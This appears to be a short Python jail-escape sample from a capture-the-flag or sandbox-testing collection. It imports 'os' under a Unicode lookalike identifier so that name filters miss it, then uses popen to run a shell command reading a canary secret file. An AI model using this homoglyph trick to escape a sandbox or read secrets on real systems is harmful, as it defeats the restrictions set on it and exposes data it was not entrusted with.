# source: pyjail lore
# effect: secret

import ᵒs

print(ᵒs.popen("cat /tmp/canary/secret").read())
